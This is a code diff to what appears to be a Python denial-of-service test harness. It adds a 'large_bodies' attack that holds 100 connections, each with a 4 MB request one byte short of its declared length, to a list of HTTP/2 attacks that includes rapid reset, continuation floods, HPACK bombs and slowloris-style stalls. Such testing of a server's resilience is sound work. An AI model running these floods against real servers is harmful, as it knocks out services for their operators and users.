@@ -340,6 +340,15 @@ def slow_body(target):
     )
 
 
+def large_bodies(target):
+    """Bodies of 4 MB that lack their last byte: the server would have to keep all of them."""
+    head = (
+        f"POST {INVOKE} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
+        f"authorization: Bearer {target.token}\r\ncontent-length: 4000001\r\n\r\n"
+    ).encode()
+    held(target, 100, lambda wire, _: wire.send(head + b" " * 4_000_000), lambda wire, _: None, preface=False)
+
+
 def idle_connections(target):
     """As many as the machine lets one process have, at most 10,000; every other one never says a word."""
     held(target, min(10_000, os.sysconf("SC_OPEN_MAX") - 100),
@@ -432,7 +441,7 @@ ATTACKS = {
     for attack in (
         rapid_reset, begin_and_reset, made_you_reset, continuation_flood, empty_continuation_flood, ping_flood,
         settings_flood, priority_flood, window_update_flood, unknown_frame_flood, empty_data, padded_data, zero_window,
-        slow_headers, slow_body, hpack_bomb, huge_headers, idle_connections, connection_churn, invalid_preface, garbage,
+        slow_headers, slow_body, large_bodies, hpack_bomb, huge_headers, idle_connections, connection_churn, invalid_preface, garbage,
         oversize_frame, stream_flood, refused_requests, goaway_abuse, half_open,
     )
 }
